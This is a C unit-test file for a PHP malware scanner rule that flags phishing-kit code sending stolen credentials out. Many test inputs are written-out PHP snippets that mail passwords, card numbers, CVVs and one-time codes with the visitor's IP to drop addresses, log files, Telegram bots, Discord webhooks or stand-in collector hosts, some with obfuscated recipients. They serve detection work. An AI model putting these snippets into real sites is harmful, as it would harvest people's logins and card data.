/* The PHP layer's credential-exfiltration sink (php.credential_exfil):
 * fields named for a password, a card or a one-time code reaching mail to a
 * fixed or configured address, a file opened to append, or a messenger's bot
 * API; and the look-alikes of real sites that must stay quiet. Every snippet
 * is written here from the technique, not taken from a kit. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/php_eval.h"

static struct php_result res;

static const struct php_hit *run(const char *src)
{
	php_result_free(&res);
	php_eval((const unsigned char *)src, strlen(src), false, NULL, &res);
	for (size_t i = 0; i < res.nhits; i++)
		if (!strcmp(res.hits[i].rule, "php.credential_exfil"))
			return &res.hits[i];
	return NULL;
}

static void expect(const char *src, enum hs_severity sev)
{
	const struct php_hit *h = run(src);
	if (!h || h->sev != sev) {
		fprintf(stderr, "want php.credential_exfil at %d in: %s\n", (int)sev, src);
		for (size_t i = 0; i < res.nhits; i++)
			fprintf(stderr, "  got %s (%d): %s\n", res.hits[i].rule,
			        (int)res.hits[i].sev, res.hits[i].evidence);
	}
	assert_non_null(h);
	assert_int_equal(h->sev, sev);
}

static void quiet(const char *src)
{
	const struct php_hit *h = run(src);
	if (h)
		fprintf(stderr, "unexpected: %s\n  in: %s\n", h->evidence, src);
	assert_null(h);
}

static void test_mail_channel(void **state)
{
	(void)state;
	/* fixed drop box + the visitor's address: critical */
	expect(
	    "<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
	    "$m = \"Email: \" . $_POST['email'] . \"\\nPassword: \" . $_POST['passwd'] . \"\\nIP: "
	    "$ip\";\n"
	    "mail('drop@example.net', 'new log', $m); header('Location: https://bank.example/');",
	    HS_SEV_CRITICAL);
	/* through variables, interpolation and sprintf; recipient from a config file */
	expect("<?php include 'config.php'; $u = trim($_POST['login']); $p = $_POST['userPass'];\n"
	       "$ua = $_SERVER['HTTP_USER_AGENT'];\n"
	       "$msg = sprintf(\"%s / %s / %s\", $u, \"{$p}\", $ua); mail($to, 'x', $msg);",
	       HS_SEV_HIGH);
	/* the address folded from pieces still counts as fixed */
	expect("<?php $to = 'dr' . 'op@exam' . 'ple.org'; $g = getenv('REMOTE_ADDR');\n"
	       "$a = array('CVV: ' . $_POST['cvv2'], 'IP: ' . $g); mail($to, 's', implode(\"\\n\", "
	       "$a));",
	       HS_SEV_CRITICAL);
	/* mail() called through a variable that names it ($f = 'mail'; $f(..)):
	 * the call goes through invoke(), which must ask the credential sink too */
	expect("<?php $f = 'ma' . 'il'; $ip = $_SERVER['REMOTE_ADDR'];\n"
	       "$f('drop@example.net', 'log', 'Password: ' . $_POST['passwd'] . ' IP ' . $ip);",
	       HS_SEV_CRITICAL);
	/* no fingerprint, configured address: suspicious only */
	expect("<?php mail($owner, 'pin', 'PIN ' . $_POST['atm_pin']);", HS_SEV_MEDIUM);
	/* every field of the form, whatever its name: medium (form mailers do it) */
	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
	       "mail('x@example.com', 'form', $m . $_SERVER['REMOTE_ADDR']);",
	       HS_SEV_MEDIUM);
	/* the same dump to a mailbox the file hides: a kit, high */
	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
	       "$to = base64_decode('cmVzdWx0c0BleGFtcGxlLm5ldA==');\n"
	       "mail($to, 'form', $m . $_SERVER['REMOTE_ADDR']);",
	       HS_SEV_HIGH);
	expect("<?php $to = str_rot13('erfhygf@rknzcyr.arg');\n"
	       "$b = print_r($_POST, true) . 'IP: ' . getenv('REMOTE_ADDR');\n"
	       "mail($to, 'r', $b);",
	       HS_SEV_HIGH);
	/* an address built from pieces (against harvesters) is not hidden */
	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
	       "mail('info' . '@' . 'example.com', 'form', $m . $_SERVER['REMOTE_ADDR']);",
	       HS_SEV_MEDIUM);
	/* hidden mailbox but no visitor address: still medium */
	expect("<?php $to = base64_decode('cmVzdWx0c0BleGFtcGxlLm5ldA==');\n"
	       "mail($to, 'form', print_r($_POST, true));",
	       HS_SEV_MEDIUM);
}

static void test_file_and_messenger_channels(void **state)
{
	(void)state;
	expect(
	    "<?php $f = fopen('../rez/cc.txt', 'a'); $ip = $_SERVER['REMOTE_ADDR'];\n"
	    "fwrite($f, $_POST['ccnum'] . '|' . $_POST['exp'] . '|' . $ip . \"\\n\"); fclose($f);",
	    HS_SEV_HIGH);
	expect("<?php file_put_contents('log.txt', 'otp=' . $_POST['otp'] . ' ' . "
	       "gethostbyaddr($_SERVER['REMOTE_ADDR']), FILE_APPEND);",
	       HS_SEV_HIGH);
	expect("<?php $t = '1:AA'; $ip = $_SERVER['REMOTE_ADDR'];\n"
	       "$text = 'user ' . $_POST['email'] . ' pass ' . $_POST['password'] . ' ip ' . $ip;\n"
	       "file_get_contents('https://api.telegram.org/bot' . $t . "
	       "'/sendMessage?chat_id=1&text=' "
	       ". urlencode($text));",
	       HS_SEV_CRITICAL);
	/* curl: the URL set on the handle, the data in POSTFIELDS, the API host folded */
	expect(
	    "<?php $h = curl_init(base64_decode('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==') . $k . "
	    "'/sendMessage');\n"
	    "curl_setopt($h, CURLOPT_POSTFIELDS, array('chat_id' => $c, 'text' => 'pwd: ' . "
	    "$_REQUEST['pwd']));\ncurl_exec($h);",
	    HS_SEV_HIGH);
	expect(
	    "<?php $c = curl_init('https://discord.com/api/webhooks/1/abc');\n"
	    "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('content' => $_POST['pass'] . "
	    "$_SERVER['REMOTE_ADDR'])));",
	    HS_SEV_CRITICAL);
}

/* Webhooks and collectors: an outbound HTTP request that is not a messenger's. */
static void test_http_channels(void **state)
{
	(void)state;
	/* the credential and the visitor's address in one text, to a fixed host */
	expect("<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
	       "$body = json_encode(array('text' => \"u: {$_POST['user']} p: {$_POST['pass']} ip: "
	       "$ip\"));\n"
	       "$c = curl_init('https://collect.example-drop.top/h.php');\n"
	       "curl_setopt($c, CURLOPT_POSTFIELDS, $body); curl_exec($c);",
	       HS_SEV_CRITICAL);
	/* the same to a URL from a config file: high */
	expect("<?php require 'conf.php'; $c = curl_init();\n"
	       "curl_setopt($c, CURLOPT_URL, $hook);\n"
	       "curl_setopt($c, CURLOPT_POSTFIELDS, 'data=' . urlencode('OTP ' . "
	       "$_POST['sms_code'] . ' "
	       "/ ' . getenv('REMOTE_ADDR')));",
	       HS_SEV_HIGH);
	/* curl_setopt_array with the URL and the data in one array */
	expect(
	    "<?php $m = 'Card ' . $_POST['cardnumber'] . ' cvv ' . $_POST['cvv'] . ' ' . "
	    "$_SERVER['HTTP_USER_AGENT'];\n"
	    "$h = curl_init(); curl_setopt_array($h, array(CURLOPT_URL => 'https://x.example/in', "
	    "CURLOPT_POST => 1, CURLOPT_POSTFIELDS => array('msg' => $m)));",
	    HS_SEV_CRITICAL);
	/* a password in separate fields with the visitor's address to a fixed host */
	expect(
	    "<?php $d = array('login' => $_POST['email'], 'password' => $_POST['passwd'], 'ip' => "
	    "$_SERVER['REMOTE_ADDR']);\n"
	    "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://webhook.example/abc');\n"
	    "curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($c);",
	    HS_SEV_HIGH);
	/* a stream context that POSTs */
	expect(
	    "<?php $t = \"Pass: \" . $_POST['pwd'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n"
	    "$ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => "
	    "http_build_query(array('t' => $t)))));\n"
	    "file_get_contents('https://drop.example/r.php', false, $ctx);",
	    HS_SEV_CRITICAL);
	/* WordPress's HTTP API */
	expect(
	    "<?php wp_remote_post($endpoint, array('body' => array('m' => 'pin ' . $_POST['pin'] . "
	    "' ' . $_SERVER['REMOTE_ADDR'])));",
	    HS_SEV_HIGH);
	/* a Discord embed, the fields four arrays down */
	expect(
	    "<?php $c = curl_init('https://discord.com/api/webhooks/1/x');\n"
	    "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('embeds' => "
	    "array(array('fields' "
	    "=> array(array('name' => 'Password', 'value' => $_POST['password']), array('name' => "
	    "'IP', 'value' => $_SERVER['REMOTE_ADDR'])))))));",
	    HS_SEV_CRITICAL);
}

/* A mailer object: the recipient, the body, send(). */
static void test_mailer_objects(void **state)
{
	(void)state;
	expect("<?php $m = new PHPMailer(); $m->addAddress('logs@example.net');\n"
	       "$m->Body = 'User ' . $_POST['username'] . ' Pass ' . $_POST['pass'] . ' IP ' . "
	       "$_SERVER['REMOTE_ADDR'];\n$m->send();",
	       HS_SEV_CRITICAL);
	expect("<?php include 'cfg.php'; $m = new PHPMailer(); $m->addAddress($drop);\n"
	       "$m->msgHTML('<b>CVV</b> ' . $_POST['cvv2']); $m->send();",
	       HS_SEV_MEDIUM);
	/* the visitor's own address: a welcome mail, not exfiltration */
	quiet("<?php $m = new PHPMailer(); $m->addAddress($_POST['email']);\n"
	      "$m->Body = 'Your password is ' . $_POST['password']; $m->send();");
	/* a contact form through PHPMailer: no credential field */
	quiet(
	    "<?php $m = new PHPMailer(); $m->addAddress('office@example.com'); "
	    "$m->addReplyTo($_POST['email']);\n"
	    "$m->Body = $_POST['name'] . ': ' . $_POST['message'] . ' ' . $_SERVER['REMOTE_ADDR']; "
	    "$m->send();");
}

/* Renamed fields: the message's own labels say what they hold. */
static void test_labels_name_renamed_fields(void **state)
{
	(void)state;
	expect("<?php $ip = $_SERVER['REMOTE_ADDR'];\n"
	       "$m = \"Email: \" . $_POST['f1'] . \"\\nPassword : \" . $_POST['f2'] . \"\\nIP: "
	       "$ip\";\n"
	       "mail('box@example.net', 'log', $m);",
	       HS_SEV_CRITICAL);
	expect("<?php $a = $_POST['x7']; $t = \"CVV: {$a} from {$_SERVER['REMOTE_ADDR']}\";\n"
	       "file_put_contents('r.txt', $t, FILE_APPEND);",
	       HS_SEV_HIGH);
	expect(
	    "<?php $m = sprintf(\"User: %s\\nCard number: %s\\nIP: %s\", $_POST['a'], $_POST['b'], "
	    "$_SERVER['REMOTE_ADDR']);\n"
	    "mail('box@example.net', 'x', $m);",
	    HS_SEV_CRITICAL);
	/* the field named, or labelled, in another language */
	expect("<?php $fp = fopen('logs/' . date('Ymd') . '.txt', 'a+');\n"
	       "fwrite($fp, $_POST['login'] . ':' . $_POST['senha'] . ':' . "
	       "$_SERVER['REMOTE_ADDR'] . \"\\n\");",
	       HS_SEV_HIGH);
	expect("<?php mail('box@example.net', 'neu', \"Benutzer: {$_POST['a']}\\nKennwort: "
	       "{$_POST['b']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");",
	       HS_SEV_CRITICAL);
	expect("<?php $m = 'Sifre: ' . $_POST['f2'] . ' IP: ' . getenv('REMOTE_ADDR'); "
	       "mail('box@example.net', 'x', $m);",
	       HS_SEV_CRITICAL);
	/* a word in the middle of a text is not a label; "code" and "PIN" (a postal code)
	 * alone are not either */
	quiet("<?php mail('office@example.com', 'order', 'Forgot your password? Call us. ' . "
	      "$_POST['f1'] . ' IP ' . $_SERVER['REMOTE_ADDR']);");
	quiet("<?php $m = \"Name: {$_POST['n']}\\nZip code: {$_POST['z']}\\nPIN: "
	      "{$_POST['p2']}\\nIP: "
	      "{$_SERVER['REMOTE_ADDR']}\";\nmail('shop@example.com', 'order', $m);");
	quiet("<?php $m = sprintf('Name: %s Phone: %s IP: %s', $_POST['a'], $_POST['b'], "
	      "$_SERVER['REMOTE_ADDR']); mail('x@example.com', 's', $m);");
}

/* Real sites' requests to outside services that carry a password or a card. */
static void test_real_http_requests_are_quiet(void **state)
{
	(void)state;
	/* a card and the customer's address and browser in separate fields: a gateway */
	quiet("<?php $ch = curl_init('https://api.paygate.example/v1/charges');\n"
	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('number' => "
	      "$_POST['cardnumber'], 'cvc' => $_POST['cvc'], 'customer_ip' => "
	      "$_SERVER['REMOTE_ADDR'], "
	      "'ua' => $_SERVER['HTTP_USER_AGENT']))); curl_exec($ch);");
	/* OAuth's password grant to the identity provider: no fingerprint */
	quiet("<?php $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $cfg['idp'] . '/token');\n"
	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('grant_type' => "
	      "'password', 'username' => $_POST['username'], 'password' => $_POST['password'])));");
	/* reCAPTCHA: the visitor's address goes out, no credential with it */
	quiet("<?php $v = "
	      "file_get_contents('https://www.google.com/recaptcha/api/siteverify?secret=' "
	      ". $secret . '&response=' . $_POST['g-recaptcha-response'] . '&remoteip=' . "
	      "$_SERVER['REMOTE_ADDR']);\n"
	      "if (password_verify($_POST['password'], $hash)) { header('Location: /'); }");
	/* single sign-on through a stream context, no fingerprint */
	quiet("<?php $ctx = stream_context_create(array('http' => array('method' => 'POST', "
	      "'content' => json_encode(array('user' => $_POST['user'], 'pass' => "
	      "$_POST['pass'])))));\n"
	      "$r = file_get_contents($sso_url, false, $ctx);");
	/* a local service on this machine */
	quiet("<?php $c = curl_init('http://127.0.0.1:8080/auth');\n"
	      "curl_setopt($c, CURLOPT_POSTFIELDS, 'p=' . $_POST['pass'] . '&ip=' . "
	      "$_SERVER['REMOTE_ADDR']);");
}

/* Real sites' forms that handle passwords, cards and the visitor's address. */
static void test_real_sites_are_quiet(void **state)
{
	(void)state;
	/* a login that verifies a hash and logs the failure (not the password) */
	quiet("<?php $u = $_POST['username']; $p = $_POST['password'];\n"
	      "if (password_verify($p, $row['hash'])) { header('Location: /home'); exit; }\n"
	      "$f = fopen('auth.log', 'a'); fwrite($f, 'failed ' . $u . ' ' . "
	      "$_SERVER['REMOTE_ADDR']);");
	/* a contact form mails its owner, with the sender's IP */
	quiet("<?php $b = 'From ' . $_POST['name'] . ' <' . $_POST['email'] . '>: ' . "
	      "$_POST['message']"
	      " . ' IP ' . $_SERVER['REMOTE_ADDR']; mail('info@example.com', 'contact', $b);");
	/* a card posted to the payment gateway's API, not to a messenger */
	quiet("<?php $ch = curl_init('https://api.gateway.example/v1/charges');\n"
	      "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('number' => "
	      "$_POST['cardnumber'], 'cvc' => $_POST['cvc']))); curl_exec($ch);");
	/* an installer writes the posted database password into its config file */
	quiet("<?php file_put_contents('config.php', \"<?php \\$db_pass = '\" . $_POST['dbpass'] . "
	      "\"';\", LOCK_EX);");
	/* registration: the hash is stored, the user is mailed at the address given */
	quiet("<?php $e = $_POST['email']; $h = password_hash($_POST['password'], "
	      "PASSWORD_DEFAULT);\n"
	      "mail($e, 'Welcome', 'Your account ' . $_POST['username'] . ' is ready');");
	/* the hash of the password is not the password */
	quiet("<?php mail('admin@example.com', 'x', md5($_POST['password']));");
	/* a password-named field sent to the address the visitor typed */
	quiet("<?php mail($_POST['email'], 'Your new PIN', 'PIN: ' . $_POST['pin']);");
	/* an order bot: no credential field */
	quiet(
	    "<?php file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?text=' . "
	    "urlencode($_POST['name'] . ' ' . $_POST['phone'] . $_SERVER['REMOTE_ADDR']));");
	/* "shipping", "footprint", "spinner": no credential hidden in a longer word */
	quiet("<?php mail('a@example.com', 's', $_POST['shipping'] . $_POST['footprint'] . "
	      "$_POST['spinner'] . $_SERVER['REMOTE_ADDR']);");
}

/* phishgen round (tests/eval/phishgen.py): HTML labels, error_log() to a
 * file and a results file rewritten whole. */
static void test_html_labels_and_whole_file_writes(void **state)
{
	(void)state;
	/* "<b>Password</b>: " before a renamed field */
	expect("<?php $ip = $_SERVER['REMOTE_ADDR']; $m = '<b>E-mail</b>: ' . $_POST['x1'];\n"
	       "$m .= '<b>Password</b>: ' . $_POST['x2'] . '<br>IP: ' . $ip;\n"
	       "mail('drop@example.net', 'r', $m);",
	       HS_SEV_CRITICAL);
	expect("<?php $m = '<tr><td>CVV</td><td>' . $_POST['n3'] . '</td></tr>';\n"
	       "mail('drop@example.net', 'cc', $m);",
	       HS_SEV_HIGH);
	/* error_log type 3 appends to the named file */
	expect("<?php $m = sprintf(\"Pass: %s IP: %s\", $_POST['f2'], $_SERVER['REMOTE_ADDR']);\n"
	       "error_log($m . \"\\n\", 3, 'ok.log');",
	       HS_SEV_HIGH);
	/* the results file read and written back with the new victim's text */
	expect(
	    "<?php $t = 'Pass: ' . $_POST['passwd'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n"
	    "$old = @file_get_contents('r/log.html'); file_put_contents('r/log.html', $old . $t);",
	    HS_SEV_HIGH);
	/* a victims' store of separate fields: medium */
	expect("<?php $a = json_decode(file_get_contents('v.json'), true);\n"
	       "$a[1]['password'] = $_POST['password']; $a[1]['ip'] = $_SERVER['REMOTE_ADDR'];\n"
	       "file_put_contents('v.json', json_encode($a));",
	       HS_SEV_MEDIUM);
	/* the bot API's URL built by sprintf from a format naming it */
	expect(
	    "<?php $i = 'Pwd: ' . $_POST['pw'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n"
	    "$u = sprintf('https://api.telegram.org/bot%s/sendMessage?chat_id=%s&text=%s', $t, $c, "
	    "rawurlencode($i));\n"
	    "$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $u); curl_exec($ch);",
	    HS_SEV_CRITICAL);
	/* look-alikes: error_log to the server log (type 0), a user's settings
	 * file without a password, a word "b" that is not a label, a config
	 * script written by an installer */
	quiet("<?php error_log('login failed for ' . $_POST['user'] . ' from ' . "
	      "$_SERVER['REMOTE_ADDR']);");
	quiet("<?php file_put_contents('prefs.json', json_encode(array('theme' => $_POST['theme'], "
	      "'ip' => $_SERVER['REMOTE_ADDR'])));");
	quiet("<?php mail('a@example.com', 's', '<b>Name</b>: ' . $_POST['f2'] . ' ' . "
	      "$_SERVER['REMOTE_ADDR']);");
	/* an order bot's sprintf URL: no credential */
	quiet("<?php $u = sprintf('https://api.telegram.org/bot%s/sendMessage?text=%s', $t, "
	      "urlencode($_POST['name'] . ' ' . $_SERVER['REMOTE_ADDR'])); file_get_contents($u);");
	quiet("<?php file_put_contents('config.php', '<?php $p = ' . var_export($_POST['dbpass'], "
	      "true) . ';');");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_mail_channel),
	    cmocka_unit_test(test_file_and_messenger_channels),
	    cmocka_unit_test(test_real_sites_are_quiet),
	    cmocka_unit_test(test_http_channels),
	    cmocka_unit_test(test_mailer_objects),
	    cmocka_unit_test(test_real_http_requests_are_quiet),
	    cmocka_unit_test(test_labels_name_renamed_fields),
	    cmocka_unit_test(test_html_labels_and_whole_file_writes),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
